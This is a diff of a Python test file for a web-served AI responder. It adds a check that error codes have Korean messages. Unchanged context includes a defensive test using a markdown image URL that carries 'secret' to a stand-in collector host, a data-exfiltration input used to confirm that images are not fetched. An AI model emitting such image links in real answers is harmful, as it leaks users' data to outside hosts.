@@ -2,9 +2,11 @@
 
 from __future__ import annotations
 
+import re
 import threading
 from collections.abc import Callable
 from concurrent.futures import ThreadPoolExecutor
+from pathlib import Path
 
 import httpx
 import pytest
@@ -12,6 +14,7 @@ from patience import PATIENCE_SECONDS
 
 from nomoat.engine.fake import FakeEngine
 from nomoat.responder import Responder
+from nomoat.serve import replies, web
 from nomoat.serve.web import FILES, as_html
 
 Start = Callable[..., str]
@@ -88,3 +91,14 @@ def test_markdown_becomes_html_that_runs_nothing(written: str, shown: str) -> No
 
 def test_a_picture_in_an_answer_is_not_fetched() -> None:
     assert "<img" not in as_html("![chart](https://collector.example/?said=secret) ![x][y]\n\n[y]: https://collector.example/")
+
+
+def test_every_error_code_has_words_in_korean() -> None:
+    """But those of a wrong key and a wrong host: the page asks for the first itself, and is not shown where the other comes."""
+    source = Path(web.__file__).parent
+    known = re.search(r"wrong: {\n(.*?)\n    }, // by the error's code", (source / "page.js").read_text(encoding="utf-8"), re.DOTALL)
+    given = {code for _, _, _, code in replies.STATUS_AND_TYPE if code}
+    for file in source.parent.glob("*.py"):
+        given |= set(re.findall(r'code="(\w+)"', file.read_text(encoding="utf-8")))
+    assert known is not None
+    assert set(re.findall(r"^ +(\w+): ", known[1], re.MULTILINE)) == given - {"invalid_api_key", "wrong_host"}
